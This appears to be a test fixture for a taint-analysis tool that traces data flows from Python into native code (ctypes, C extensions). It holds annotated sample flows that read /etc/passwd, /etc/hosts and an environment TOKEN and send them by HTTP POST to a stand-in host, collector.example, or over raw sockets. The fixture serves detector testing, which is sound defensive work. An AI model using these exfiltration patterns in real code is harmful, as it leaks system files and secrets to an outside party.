"""Native code of the same tree: libraries loaded by ctypes, extension modules, cffi."""
import ctypes
import os

import requests
from pack import _grab
import _wire
import _other

U = "https://collector.example/u"
library = ctypes.CDLL("./libgrab.so")


def loaded_reads():
    library.grab_file.restype = ctypes.c_char_p
    requests.post(U, data=library.grab_file(b"/etc/passwd"))  #~ sink(egress.http) f1, finding(traced) f1


def loaded_sends():
    library.send_text(os.environ["TOKEN"])  #~ source(ENVIRONMENT) f2


def loaded_counts():
    requests.post(U, data=library.count_files(b"/etc"))  #~ ok


def extension_reads():
    requests.post(U, data=_grab.read(0))  #~ sink(egress.http) f3, finding(traced) f3


def extension_sends():
    _wire.send("topic", os.environ["TOKEN"])  #~ source(ENVIRONMENT) f4
    _wire.send(os.environ["TOPIC"], "text")  #~ ok


def extension_sends_one():
    _wire.put(os.environ["TOKEN"])  #~ source(ENVIRONMENT) f5


def another_module():
    _other.put(os.environ["TOKEN"])  #~ ok


# --- path: native/grab.c ---
#include <stdio.h>
#include <sys/socket.h>

static char text[4096];
int wire;

char *grab_file(const char *path)
{
    FILE *in = fopen(path, "r");
    fread(text, 1, sizeof(text), in); //~ source(FILE) f1
    return text;
}

int count_files(const char *path)
{
    return access(path, 4);
}

void send_text(const char *text)
{
    send(wire, text, 10, 0); //~ sink(egress.socket) f2, finding(traced) f2
}
# --- path: pack/_grab.c ---
#include <Python.h>
#include <stdio.h>

static PyObject *grab_read(PyObject *self, PyObject *args)
{
    char text[4096];
    FILE *in = fopen("/etc/hosts", "r");
    fread(text, 1, sizeof(text), in); //~ source(FILE) f3
    return Py_BuildValue("s", text);
}

static PyMethodDef methods[] = {
    {"read", grab_read, METH_VARARGS, "Reads."},
    {NULL, NULL, 0, NULL},
};

static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "_grab", NULL, -1, methods};

PyMODINIT_FUNC PyInit__grab(void)
{
    return PyModule_Create(&module);
}
# --- path: native/wire.c ---
#include <Python.h>
#include <sys/socket.h>

int wire;

static PyObject *wire_send(PyObject *self, PyObject *args)
{
    const char *topic, *text;
    if (!PyArg_ParseTuple(args, "ss", &topic, &text))
        return NULL;
    send(wire, text, 10, 0); //~ sink(egress.socket) f4, finding(traced) f4
    Py_RETURN_NONE;
}

static PyObject *wire_put(PyObject *self, PyObject *text)
{
    send(wire, PyUnicode_AsUTF8(text), 10, 0); //~ sink(egress.socket) f5, finding(traced) f5
    Py_RETURN_NONE;
}

static PyMethodDef methods[] = {
    {"send", wire_send, METH_VARARGS, "Sends."},
    {"put", (PyCFunction)wire_put, METH_O, "Sends one."},
    {NULL, NULL, 0, NULL},
};

static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "_wire", NULL, -1, methods};

PyMODINIT_FUNC PyInit__wire(void)
{
    return PyModule_Create(&module);
}
